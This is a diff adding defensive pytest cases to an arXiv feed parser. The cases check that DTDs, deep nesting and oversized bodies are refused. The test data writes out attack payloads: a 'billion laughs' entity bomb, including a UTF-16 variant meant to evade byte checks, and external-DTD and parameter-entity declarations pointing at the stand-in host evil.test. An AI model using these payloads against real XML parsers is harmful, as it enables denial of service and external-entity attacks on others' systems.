@@ -9,9 +9,17 @@ from typing import Any
 import httpx
 import pytest
 
-from generator.arxiv_api import BATCH_SIZE, INTERVAL, enrich, fetch_batch, parse_feed
+from generator.arxiv_api import (
+    BATCH_SIZE,
+    INTERVAL,
+    MAX_DEPTH,
+    enrich,
+    fetch_batch,
+    parse_feed,
+)
 from generator.errors import ApiError
 from generator.fetch import HttpClient, RateLimiter, RetryPolicy
+from generator.hf_api import MAX_BODY
 
 CHECKED = date(2026, 5, 29)
 URL = "https://export.arxiv.test/api/query"
@@ -119,6 +127,46 @@ def test_the_empty_feed_finds_nothing(recorded: dict[str, bytes]) -> None:
 )
 def test_unusable_bodies_raise_api_error(body: bytes, error: str) -> None:
     with pytest.raises(ApiError, match=error):
+        parse_feed(body, "arXiv", CHECKED)
+
+
+FEED = '<feed xmlns="http://www.w3.org/2005/Atom">'
+# "Billion laughs": 3 GB of "lol" once its nine levels of entities are expanded.
+LAUGHS = (
+    '<!DOCTYPE feed [<!ENTITY l0 "lol">'
+    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
+    + f"]>{FEED}<title>&l9;</title></feed>"
+)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        LAUGHS.encode(),
+        LAUGHS.encode("utf-16"),  # no b"<!DOCTYPE" in its bytes, yet the same document
+        f'<!DOCTYPE feed SYSTEM "http://evil.test/feed.dtd">{FEED}</feed>'.encode(),
+        f'<!DOCTYPE feed [<!ENTITY % p SYSTEM "http://evil.test/p">%p;]>{FEED}</feed>'.encode(),
+    ],
+    ids=["billion-laughs", "utf-16", "external-dtd", "parameter-entity"],
+)
+def test_a_dtd_is_refused_before_any_entity_is_expanded(body: bytes) -> None:
+    get = responder(body)
+    with pytest.raises(ApiError) as caught:
+        fetch_batch(get, ["2605.00001"], CHECKED, URL)
+    assert str(caught.value) == "arXiv (1 ids from 2605.00001): response declares a DTD; refused"
+
+
+def test_nesting_is_bounded() -> None:
+    deep = f"{FEED}{'<x>' * 100_000}".encode()
+    with pytest.raises(ApiError, match=rf"^arXiv: XML nested more than {MAX_DEPTH} elements deep"):
+        parse_feed(deep, "arXiv", CHECKED)
+    allowed = f"{FEED}{'<x>' * (MAX_DEPTH - 1)}{'</x>' * (MAX_DEPTH - 1)}</feed>"
+    assert parse_feed(allowed, "arXiv", CHECKED) == {}
+
+
+def test_an_oversized_body_is_refused_unparsed() -> None:
+    body = FEED.encode() + b" " * MAX_BODY + b"</feed>"
+    with pytest.raises(ApiError, match=r"^arXiv: response is larger than 16 MiB; refused$"):
         parse_feed(body, "arXiv", CHECKED)
 
 
